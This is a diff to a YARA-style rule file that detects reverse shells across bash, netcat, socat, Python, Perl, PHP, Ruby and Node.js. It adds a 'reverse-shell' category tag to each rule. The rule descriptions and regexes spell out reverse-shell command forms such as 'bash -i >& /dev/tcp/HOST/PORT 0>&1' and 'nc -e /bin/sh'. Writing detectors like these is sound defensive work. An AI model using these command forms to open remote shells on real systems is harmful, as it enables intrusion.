@@ -14,6 +14,7 @@ rule revshell_bash_dev_tcp
         tool = "bash reverse shell"
         description = "shell wired to a /dev/tcp or /dev/udp connection (bash -i >& /dev/tcp/HOST/PORT 0>&1 and kin)"
         severity = "high"
+        category = "reverse-shell"
     strings:
         $interactive = /sh\s+-i\s*[0-9]?[<>]&?\s*\/dev\/(tcp|udp)\/[^\/\s]{1,253}\/[0-9]{1,5}/
         $stdin_dup = /\/dev\/(tcp|udp)\/[^\/\s]{1,253}\/[0-9]{1,5}\s*0\s*[<>]&\s*1/
@@ -31,6 +32,7 @@ rule revshell_netcat_pipe
         tool = "netcat reverse shell"
         description = "netcat/telnet serving a shell: nc -e /bin/sh, or sh -i piped through nc and a FIFO"
         severity = "high"
+        category = "reverse-shell"
     strings:
         $exec_flag = /\b(nc|ncat|netcat|nc\.traditional|nc\.openbsd)(\s[^\n|;&]{0,100})?\s(-[a-z]{0,6}[ec]|--exec|--sh-exec)\s+["']?(\/[a-z\/]{0,20}\/)?(ba|z|da|k)?sh\b/
         $pipe_nc = /sh\s+-i\s+2>&1\s*\|\s*(nc|ncat|netcat|nc\.traditional|nc\.openbsd)\s/
@@ -46,6 +48,7 @@ rule revshell_socat
         tool = "socat reverse shell"
         description = "socat joining a shell to a TCP connection (exec:'bash -li',pty ... tcp:HOST:PORT)"
         severity = "high"
+        category = "reverse-shell"
     strings:
         $exec_tcp = /socat\s[^\n]{0,80}exec:["']?(\/bin\/)?(ba|z)?sh[^\n]{0,120}tcp[46]?(-connect|-listen)?:/ nocase
         $tcp_exec = /socat\s[^\n]{0,80}tcp[46]?(-connect|-listen)?:[^\n]{0,120}exec:["']?(\/bin\/)?(ba|z)?sh/ nocase
@@ -59,6 +62,7 @@ rule revshell_python
         tool = "python reverse shell"
         description = "Python socket whose file descriptor becomes a shell's stdin/stdout (os.dup2 + pty.spawn/subprocess)"
         severity = "high"
+        category = "reverse-shell"
     strings:
         $socket = /socket\.socket\s*\(/
         $connect = /\.connect\s*\(\s*\(/
@@ -75,6 +79,7 @@ rule revshell_perl
         tool = "perl reverse shell"
         description = "Perl socket reopened as STDIN/STDOUT and a shell exec'd on it"
         severity = "high"
+        category = "reverse-shell"
     strings:
         $socket = /socket\s*\(\s*[A-Za-z_$]{1,32}\s*,\s*(PF|AF)_INET6?\s*,\s*SOCK_STREAM/
         $connect = /connect\s*\(\s*[A-Za-z_$]{1,32}\s*,\s*(pack_)?sockaddr_in/
@@ -93,6 +98,7 @@ rule revshell_php
         tool = "php reverse shell"
         description = "PHP fsockopen() connection handed to /bin/sh -i <&N >&N"
         severity = "high"
+        category = "reverse-shell"
     strings:
         $fsockopen = /fsockopen\s*\(/
         $shell = /(exec|shell_exec|system|passthru|popen|proc_open)\s*\(\s*["'](\/bin\/)?(ba)?sh\s+(-i\s*)?<&\s*[0-9]/
@@ -106,6 +112,7 @@ rule revshell_ruby
         tool = "ruby reverse shell"
         description = "Ruby TCPSocket whose descriptor becomes a shell's stdin/stdout/stderr"
         severity = "high"
+        category = "reverse-shell"
     strings:
         $tcpsocket = /TCPSocket\.(open|new)\s*\(/
         $format = /sh -i <&%d >&%d 2>&%d/
@@ -120,6 +127,7 @@ rule revshell_node
         tool = "node.js reverse shell"
         description = "Node.js net.Socket piped into a spawned shell"
         severity = "high"
+        category = "reverse-shell"
     strings:
         $socket = /new\s+net\.Socket\s*\(/
         $spawn = /spawn\s*\(\s*["'](\/bin\/)?(ba|z)?sh["']/
